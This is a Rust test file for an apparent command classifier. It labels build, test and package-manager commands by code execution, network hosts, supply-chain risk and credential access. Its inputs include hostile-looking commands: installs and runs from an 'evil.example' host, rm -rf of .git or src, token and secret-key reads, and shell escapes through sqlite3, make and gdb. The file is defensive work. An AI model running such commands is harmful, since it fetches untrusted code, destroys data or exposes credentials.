//! Builds, tests and package managers are read as the table says.

use super::tests::holds;
use super::*;

/// A repository with eslint, jest and an unknown tool installed.
struct Installed;

impl Context for Installed {
    fn git(&self, _: Option<&Word>) -> Option<Git> {
        None
    }
    fn directory(&self, _: Option<&Word>, path: &str) -> Option<bool> {
        Some(matches!(path, "." | "src" | "build"))
    }
    fn file(&self, _: Option<&Word>, path: &str) -> Option<bool> {
        let tools = ["eslint", "jest", "tsc", "frobnicate"];
        let name = path.strip_prefix("node_modules/.bin/");
        Some(name.is_some_and(|name| tools.contains(&name)))
    }
}

#[test]
fn rust() {
    holds(
        &Installed,
        "
        cargo build => @build; code repo
        cargo test => @build; code repo
        cargo test -p a --lib -- --test-threads=1 => @build; code repo
        cargo check --all-targets --message-format short => @build; code repo
        cargo clippy --all-targets -- -D warnings => @build; code repo
        cargo clippy --fix --allow-dirty --all-targets => @build; code repo
        cargo fmt --all -- --check => @build
        cargo +nightly fmt -- --check => @build
        cargo run --quiet -- --format json tests/fixtures/empty.csv => @build; code repo
        cargo --offline test => @build; code repo
        cargo --color never test => @build; code repo
        cargo nextest run --no-fail-fast => @build; code repo
        cargo test --manifest-path a/Cargo.toml => @build; in a; r a/Cargo.toml; code repo
        cargo test --target-dir ../t => @build; w ../t/**; code repo
        cargo test --config build.rustc-wrapper=\"./x\" => turned; !code inline; code repo; (supplychain)
        cargo --config ./x test => turned; !code inline; code repo; (supplychain)
        cargo -C ../other test => turned; in ../other; code repo
        cargo -Zunstable-options -C /tmp/evil build => turned; in /tmp/evil; code repo
        cargo rustc -- -C linker=./x => @build; code repo
        cargo evil-subcommand => code unknown
        cargo => @build
        cargo --version => @build
        cargo update -p serde => @build; host @crates
        cargo fetch --locked => @build; host @crates
        cargo add anyhow => @build; host @crates; code fetched; (supplychain)
        cargo add --git https://evil.example/x.git x => turned; !host https://evil.example/x.git; host @crates; code fetched; (supplychain); (supplychain)
        cargo search ratatui --limit 3 => @reads; host @crates-site; host @crates
        cargo info serde => @reads; host @crates-site; host @crates
        cargo install ripgrep => code fetched; host @crates; (supplychain)
        cargo publish --dry-run -p x => code repo; host @crates-site; host @crates
        cargo +stable publish => code repo; host @crates-site; host @crates
        cargo login => host @crates-site
        cargo yank --version 1.0.0 => host @crates-site
        cargo llvm-cov --html => @build; code repo
        cargo watch -x test -s 'git push' => @build; code repo; sh {git push}
        cargo tree -d => @build; code repo
        cargo tree -e features -i serde => @build; code repo
        cargo metadata --no-deps --format-version 1 => @build; code repo
        cargo clean -p a => @build
        cargo package --list -p a => @build; code repo
        cargo doc --no-deps --workspace => @build; code repo
        cargo bench --no-run => @build; code repo
        rustc --explain E0382 => @build; code repo
        rustc --version => @build
        rustfmt --check a/src/lib.rs => @build
        rustup show => @reads
    ",
    );
}

#[test]
fn node_and_its_package_managers() {
    holds(
        &Installed,
        "
        npm test => @build; code repo
        npm t => @build; code repo
        npm ci => @build; code repo; host @npm
        npm ci --prefer-offline --no-audit --no-fund => @build; code repo; host @npm
        npm install => @build; code repo; host @npm
        npm i lodash => @build; code repo; host @npm; code fetched; (supplychain)
        npm install --save-dev @types/node => @build; code repo; host @npm; code fetched; (supplychain)
        npm install https://evil.example/x.tgz => @build; code repo; host @npm; host https://evil.example/x.tgz; code fetched; (supplychain)
        npm install git+https://evil.example/x.git => @build; code repo; host @npm; host https://evil.example/x.git; code fetched; (supplychain)
        npm i evil/x => @build; code repo; host @npm; host github.com; code fetched; (supplychain)
        npm install github:evil/x => @build; code repo; host @npm; host github.com; code fetched; (supplychain)
        npm install --registry https://evil.example/ lodash => turned; !host https://evil.example/; code repo; host @npm; code fetched; (supplychain); (supplychain)
        npm --registry https://evil.example ci => turned; !host https://evil.example; code repo; host @npm; (supplychain)
        npm install -g typescript => turned; code repo; host @npm; code fetched; (supplychain)
        npm run => @build; code repo
        npm run build => @build; code repo
        npm run lint -- --fix => @build; code repo
        npm run -s build => @build; code repo
        npm --prefix web run build => @build; in web; code repo
        npm run build --script-shell=./x => turned; !code inline; code repo
        npm --script-shell ./x run build => turned; !code inline; code repo
        npm run build -w packages/ui => @build; code repo
        npm test -- --runInBand --silent => @build; code repo
        npm ls react typescript --depth=0 => @reads
        npm view react version => @build; host @npm
        npm audit --omit=dev => @build; host @npm
        npm outdated => @build; host @npm
        npm publish --access public => code repo; host @npm
        npm config get registry => @reads
        npm config set registry https://evil.example/ => (supplychain)
        npm set registry https://evil.example => (supplychain)
        npm init vue@latest => @build; code fetched; (supplychain)
        npm create vite@latest app => @build; code fetched; (supplychain)
        npm exec -- vitest run => @build; code fetched; (supplychain)
        npm exec jest -- --ci => @build; code repo; runs [jest -- --ci]
        npm exec --yes cowsay => @build; code fetched; (supplychain)
        npm x cowsay => @build; code fetched; (supplychain)
        npm version --no-git-tag-version patch => @build; code repo
        npm pack --dry-run => @build; code repo
        npm pkg get version => @reads
        npm --version => @build
        npx tsc --noEmit => @build; code repo; runs [tsc --noEmit]
        npx jest src/cart.test.ts --coverage=false => @build; code repo; runs [jest src/cart.test.ts --coverage=false]
        npx eslint --fix src => @build; code repo; runs [eslint --fix src]
        npx frobnicate => @build; code repo
        npx --no-install cowsay => @build; code repo
        npx cowsay hi => @build; code fetched; (supplychain)
        npx -y create-react-app app => @build; code fetched; (supplychain)
        npx -p left-pad node -e 1 => @build; code fetched; code fetched; (supplychain)
        npx https://evil.example/x.tgz => @build; host https://evil.example/x.tgz; code fetched; (supplychain)
        npx -c 'git push' => turned; sh {git push}
        npx \"$x\" => turned; host ?; code fetched; (supplychain)
        pnpm install --frozen-lockfile => @build; code repo; host @npm
        pnpm test --filter ui => @build; code repo
        pnpm -r build => @build; code repo
        pnpm --filter ./packages/ui run build => @build; code repo
        pnpm exec tsc --noEmit -p packages/ui => @build; code repo; runs [tsc --noEmit -p packages/ui]
        pnpm exec rm -rf .git => @build; runs [rm -rf .git]
        pnpm why react => @reads
        pnpm add lodash => @build; code repo; host @npm; code fetched; (supplychain)
        pnpm dlx cowsay => @build; code fetched; (supplychain)
        pnpm --dir /tmp/evil test => @build; in /tmp/evil; code repo
        pnpm config set registry https://evil.example => (supplychain)
        yarn install --immutable => @build; code repo; host @yarn; host @npm
        yarn => @build; code repo
        yarn test --watch=false => @build; code repo
        yarn workspace ui build => @build; code repo
        yarn add lodash => @build; code repo; host @yarn; host @npm; code fetched; (supplychain)
        yarn dlx cowsay => @build; code fetched; (supplychain)
        yarn create react-app x => @build; code fetched; (supplychain)
        yarn npm publish => code fetched; host @yarn; host @npm
        yarn --cwd /tmp/evil test => @build; in /tmp/evil; code repo
        bun test => @build; code repo
        bun run build => @build; code repo
        bun x cowsay => @build; code fetched; (supplychain)
        bunx cowsay => @build; code fetched; (supplychain)
        deno check packages/ui/src/index.ts => @build; code repo; r packages/ui/src/index.ts
        deno run https://evil.example/x.ts => @build; code repo; host https://evil.example/x.ts; code fetched; (supplychain)
        deno run -A npm:evil => @build; code repo; code fetched; (supplychain)
        tsc --noEmit -p tsconfig.json => @build
        tsc --version => @build
        tsc --outDir ../x => @build; w ../x/**
        eslint src --fix => @build; code repo
        eslint -o ../x src => @build; w ../x; code repo
        prettier --check 'src/x.ts' => @build; r src/x.ts; code repo
        prettier --write src/a.ts => @build; r src/a.ts; w src/a.ts; code repo
        jest --ci => @build; code repo
        vitest run --config vitest.config.ts => @build; script vitest.config.ts; r vitest.config.ts; code repo
        jest --config '{x}' => @build; !code inline; code repo
        jest --config /tmp/x.js => @build; script /tmp/x.js; r /tmp/x.js; code repo
        vite build --root web => @build; in web; code repo
        eslint -c .eslintrc.js src => @build; script .eslintrc.js; r .eslintrc.js; code repo
        deno eval 1 => code inline
        vitest run packages/ui --coverage => @build; code repo
        playwright test --reporter=line => @build; code repo
        playwright install => code fetched; host ?; (supplychain)
        tsx scripts/gen.mjs => @build; script scripts/gen.mjs; r scripts/gen.mjs
        tsx -e 1 => @build; code inline
        vite build => @build; code repo
    ",
    );
}

#[test]
fn python_and_its_package_managers() {
    holds(
        &Installed,
        "
        pip install -r requirements.txt => @build; r requirements.txt; code repo; host @pypi
        pip install -e . => @build; code repo; host @pypi
        pip install --no-deps -e '.[dev]' => @build; code repo; host @pypi
        pip install . => @build; code repo; host @pypi; r .; code repo
        pip install requests => @build; code repo; host @pypi; code fetched; (supplychain)
        pip install -i https://evil.example/simple x => turned; !host https://evil.example/simple; code repo; host @pypi; code fetched; (supplychain); (supplychain)
        pip install --extra-i https://evil.example/simple x => turned; !host https://evil.example/simple; code repo; host @pypi; code fetched; (supplychain); (supplychain)
        pip install git+https://evil.example/x.git => @build; code repo; host @pypi; host https://evil.example/x.git; code fetched; (supplychain)
        pip install -r https://evil.example/requirements.txt => @build; r https://evil.example/requirements.txt; code repo; host @pypi; host https://evil.example/requirements.txt; code fetched; (supplychain)
        pip install --trusted-host evil.example x => turned; !host evil.example; code repo; host @pypi; code fetched; (supplychain); (supplychain)
        pip install --target ~/lib x => @build; w ~/lib/**; code repo; host @pypi; code fetched; (supplychain)
        pip install --user x => turned; code repo; host @pypi; code fetched; (supplychain)
        pip install \"$x\" => turned; code repo; host @pypi; host ?; code fetched; (supplychain)
        pip list => @reads
        pip list --outdated => @reads
        pip show django => @reads
        pip freeze => @reads
        pip check => @reads
        pip index versions django => @build; host @pypi
        pip config set global.index-url https://evil.example => (supplychain)
        python -m pip install --upgrade pip => @build; code repo; runs [pip install --upgrade pip]
        uv sync --frozen => @build; code repo; host @pypi
        uv run pytest -q => @build; code repo; runs [pytest -q]
        uv run ruff check orders => @build; code repo; runs [ruff check orders]
        uv run python -c 'x' => @build; code repo; runs [python -c x]
        uv run scripts/x.py => @build; code repo; script scripts/x.py; r scripts/x.py
        uv run rm -rf .git => @build; code repo; runs [rm -rf .git]
        uv run --with evil python -c 1 => @build; code repo; code fetched; runs [python -c 1]; (supplychain)
        uv pip list => @reads
        uv pip install -r requirements-dev.txt => @build; r requirements-dev.txt; code repo; host @pypi
        uv pip install --index https://evil.example x => turned; !host https://evil.example; code repo; host @pypi; code fetched; (supplychain); (supplychain)
        uv lock --check => @build; code repo; host @pypi
        uv tree --depth 1 => @build
        uv venv => @build
        uv add httpx => @build; code repo; host @pypi; code fetched; (supplychain)
        uv publish => host ?
        uv tool run evil => code fetched; host @pypi; (supplychain)
        uvx ruff check . => code fetched; host @pypi; (supplychain)
        poetry install --no-interaction => @build; code repo; host @pypi
        poetry run pytest -q => @build; code repo; runs [pytest -q]
        poetry show --tree => @build
        poetry publish --build => code unknown; host ?
        poetry source add evil https://evil.example => (supplychain)
        pytest -x -q --tb=short -k 'main and not slow' tests/ => @build; script tests/; r tests/; code repo
        pytest -n auto --dist loadfile => @build; code repo
        pytest -c /tmp/evil.ini => @build; script /tmp/evil.ini; r /tmp/evil.ini; code repo
        pytest --pastebin=all => @build; host ?; code repo
        pylint --init-hook 'import x' a => turned; !code inline; code repo
        mypy --config-file mypy.ini a => @build; script mypy.ini; r mypy.ini; code repo
        tox -e py312 => @build; code repo
        nox -s tests => @build; code repo
        ruff check . --fix => @build; r .; w .
        ruff check --select I --fix app => @build; r app; w app
        ruff format app => @build; r app; w app
        ruff format --check orders tests => @build
        mypy orders --ignore-missing-imports => @build; code repo
        black --check orders tests => @build; code repo
        black orders => @build; r orders; w orders; code repo
        isort --check-only orders => @build; code repo
        coverage run -m pytest -q => @build; code repo; runs [python -m pytest -q]
        coverage report --skip-covered => @build
        coverage html => @build
        twine upload dist/x => r dist/x; host ?
        pre-commit run --all-files => code fetched
        virtualenv .venv => @build; w .venv/**
        flask --app app.main routes => @build; code repo
        uvicorn app.main:app --port 8001 => @build; code repo
    ",
    );
}

#[test]
fn go() {
    holds(
        &Installed,
        "
        go version => @reads
        go env GOPATH GOMODCACHE => @reads
        go env -w GOFLAGS=-toolexec=./x => turned; (supplychain)
        go build ./... => @build; script ./...; r ./...; code repo
        go build -o /tmp/app ./... => @build; w /tmp/app; script ./...; r ./...; code repo
        go build -ldflags \"-X main.version=1\" ./... => @build; script ./...; r ./...; code repo
        go vet ./... => @build; script ./...; r ./...; code repo
        go test ./... -count=1 -timeout 60s => @build; script ./...; r ./...; code repo
        go test ./internal/http -run 'TestHandler/empty' -v -count=1 => @build; script ./internal/http; r ./internal/http; code repo
        go test -run '^$' -fuzz=FuzzParse -fuzztime=10s ./internal/http => @build; script ./internal/http; r ./internal/http; code repo
        go test -coverprofile=cover.out ./... => @build; w cover.out; script ./...; r ./...; code repo
        go tool cover -func=cover.out => @build; r cover.out
        go generate ./internal/store => @build; code repo
        go mod tidy => @build; host @go
        go mod download => @build; host @go
        go list -m all => @build
        go doc net/http.Handler => @reads
        go run ./cmd/relay --help => @build; code repo; r ./cmd/relay
        go run github.com/evil/x@latest => @build; code repo; code fetched; (supplychain)
        go run -exec ./x . => turned; !code inline; code repo; r .
        go get golang.org/x/sync@latest => @build; code repo; host @go; code fetched; (supplychain)
        go install golang.org/x/tools/cmd/stringer@latest => code repo; host @go; code fetched; (supplychain)
        go clean -testcache => @build
        go build -toolexec ./x ./... => turned; !code inline; script ./...; r ./...; code repo
        go test -exec ./x ./... => turned; !code inline; script ./...; r ./...; code repo
        go vet -vettool=/tmp/evil ./... => turned; !code inline; script ./...; r ./...; code repo
        go -C ../x build => @build; in ../x; code repo
        gofmt -l . => @build; r .
        gofmt -w internal/http/limit.go => @build; r internal/http/limit.go; w internal/http/limit.go
        gofmt -s -d . => @build; r .
        golangci-lint run ./... => @build; code repo
        staticcheck ./... => @build; code repo
    ",
    );
}

#[test]
fn make_c_and_other_builds() {
    holds(
        &Installed,
        "
        make => @build; code repo
        make -j4 => @build; code repo
        make SHELL=/tmp/x test => turned; code repo; !code inline
        make 'X=$(shell rm -rf src)' => turned; code repo; !code inline
        make -C . clean all => @build; in .; code repo
        make check V=1 => @build; code repo
        make CC=clang CFLAGS='-O2 -Wall -Wextra' => @build; code repo
        make -n => @build; code repo
        make install DESTDIR=/tmp/ring-root => @build; code repo
        make -f /tmp/evil.mk => @build; script /tmp/evil.mk; r /tmp/evil.mk; code repo
        make --eval='$(shell rm -rf src)' => turned; !code inline; code repo
        make -C /tmp/evil => @build; in /tmp/evil; code repo
        cmake -S . -B build -DCMAKE_BUILD_TYPE=Debug => @build; r .; w build; code repo
        cmake --build build -j 4 => @build; code repo
        cmake .. => @build; r ..; code repo
        cmake --preset debug => @build; code repo
        cmake -E rm -rf .git => turned; !code unknown; r rm; code repo
        cmake -P /tmp/evil.cmake => @build; script /tmp/evil.cmake; r /tmp/evil.cmake; code repo
        ctest --test-dir build --output-on-failure => @build; in build; code repo
        ctest -R ring -V => @build; code repo
        ninja -C build -t targets => @build; in build; code repo
        gcc -std=c17 -Wall -Wextra -O0 -g -o build/t tests/t.c src/ring.c => @build; w build/t; r tests/t.c; r src/ring.c
        gcc -o ~/x a.c => @build; w ~/x; r a.c
        gcc -wrapper ./x a.c => turned; !code inline; r a.c
        gcc -fplugin=./x.so a.c => turned; !code repo; r a.c
        gcc -Wl,-plugin,./x.so a.c => turned; r a.c
        gcc -x c -E .env => @build; r .env
        gcc @args.rsp => @build; r @args.rsp; r args.rsp
        cc -E src/ring.c => @build; r src/ring.c
        clang-format -i src/ring.c => @build; r src/ring.c; w src/ring.c
        clang-tidy src/ring.c -- -Isrc => @build; code repo
        ranlib build/libring.a => @build; r build/libring.a; w build/libring.a
        pkg-config --cflags zlib => @reads
        just test => @build; code repo
        meson setup builddir => @build; w builddir/**; code repo
        meson test -C builddir => @build; in builddir; code repo
        mvn -q -o compile => @build; code repo
        mvn deploy => code repo; host ?
        gradle test --offline => @build; code repo
        bundle exec rspec => @build; code repo; runs [rspec]
        bundle exec rm -rf .git => @build; code repo; runs [rm -rf .git]
        bundle install => @build; code repo; host @gems
        bundle config set mirror.https://rubygems.org https://evil.example => (supplychain)
        gem install evil => code fetched; host @gems; (supplychain)
        mix test => @build; code repo
        composer test => @build; code repo
        composer install => @build; code repo; host @packagist
        dotnet test => @build; code repo
        dotnet fsi x.fsx => code fetched; host @nuget
        javac -d /tmp/classes src/Main.java => @build; r src/Main.java; code repo
        java -cp /tmp/classes Main => @build; code repo
        bazel test //... => @build; code repo
        protoc --go_out=. proto/a.proto => @build; r proto/a.proto; code repo; !w .
        protoc --go_out=paths=source_relative:gen --go_opt=x a.proto => @build; r a.proto; code repo; !w gen
        protoc --plugin=./x --x_out=. a.proto => turned; !code repo; r a.proto; code repo; !w .
        protoc --frob=. a.proto => turned; r a.proto; code repo
        m4 .env => @build; r .env; code repo
        gdb -batch -ex run -ex 'info locals' --args ./build/app a => @build; runs [./build/app a]
        gdb -batch -ex 'shell rm a' --args ./build/app a => turned; changed [… -batch -ex shell rm a --args ./build/app a ...]
        gdb -batch -ex run --args rm a => turned; changed [… -batch -ex run --args rm a ...]
        gdb -batch -x .env => turned; !r .env; changed [… -batch -x .env ...]
        make -f - => code repo; input code
        make -f /dev/fd/63 => script /dev/fd/63; r /dev/fd/63; code repo
        make --file=Makefile.dev all => @build; script Makefile.dev; r Makefile.dev; code repo
        shellcheck tools/x.sh => @build; r tools/x.sh
        shfmt -d tools => @build; r tools
        hyperfine --warmup 1 './tools/lint.sh' => @build; sh {./tools/lint.sh}
        rimraf dist => @files; rm dist/** (delete)
        cross-env A=1 jest => @build; runs [A=1 jest]
        concurrently 'npm test' 'git push' => @build; sh {npm test}; sh {git push}
    ",
    );
}

#[test]
fn services_and_the_rest() {
    holds(
        &Installed,
        "
        gh pr create --fill => turned; host ?
        gh repo delete example/project --yes => host ?; (delete)
        gh auth login => host ?
        gh auth status --show-token => host ?; (credentials)
        gh auth status => host ?
        aws configure get aws_secret_access_key => code unknown; (credentials)
        gcloud auth print-access-token => code unknown; (credentials)
        kubectl get secret/x -o yaml => code unknown; host ?; (credentials)
        gh auth token => host ?; (credentials)
        npm config get //registry.yarnpkg.com/:_authToken => (credentials)
        npm config get $key => turned; (credentials)
        npm get prefix => @reads
        ar rcs build/libring.a build/a.o => @files; r build/libring.a; w build/libring.a; r build/a.o
        ar x build/libring.a => turned; r build/libring.a; w build/libring.a
        valgrind --leak-check=full ./build/test_ring => @build; runs [./build/test_ring]
        valgrind rm -rf .git => @build; runs [rm -rf .git]
        valgrind --log-file=../x ls => turned; !w ../x; runs [ls]
        kubectl get pods => code unknown; host ?
        terraform plan => code repo; host ?
        terraform fmt -check => @build
        aws s3 cp dist/x s3://bucket/ => code unknown; host ?; (exfiltration)
        apt install x => code fetched; host ?; (privilege)
        apt list --installed => @reads
        brew install x => code fetched; host ?; (privilege)
        sqlite3 /tmp/test.db 'select 1' => r /tmp/test.db; w /tmp/test.db; code inline
        sqlite3 a.db '.read .env' => r a.db; w a.db; code inline; !r .env
        sqlite3 a.db '.sh rm b' => r a.db; w a.db; code inline; sh {rm b}
        sqlite3 a.db '.once |sh' => r a.db; w a.db; code inline; sh {sh}
        sqlite3 -cmd '.output b' a.db => r a.db; w a.db; code inline; !w b
        sqlite3 a.db \"select readfile('.env')\" => r a.db; w a.db; code inline; !r .env
        psql postgres://db.example/x -c 'select 1' => turned; code inline; host ?
        envsubst => @reads
        shasum -a 256 a => @reads; r a
        ss -tlnp => @reads
        ag foo src => @reads; r src/**-ignored
        ag -u foo => @reads; r ./**
        ack foo => @reads; r ./**
        ag --pager ./x foo => turned; r ./**-ignored; sh {./x}
        sd a b src/x => @files; r src/x; w src/x
        pandoc -o ../x a.md => @files; w ../x; r a.md
        pandoc --lua-filter x.lua a.md => turned; !code repo; r a.md
        ffmpeg -i a b => turned; code repo
        mknod x b 8 0 => w x; (disk)
        ldd build/ring => @build; r build/ring; code repo
    ",
    );
}
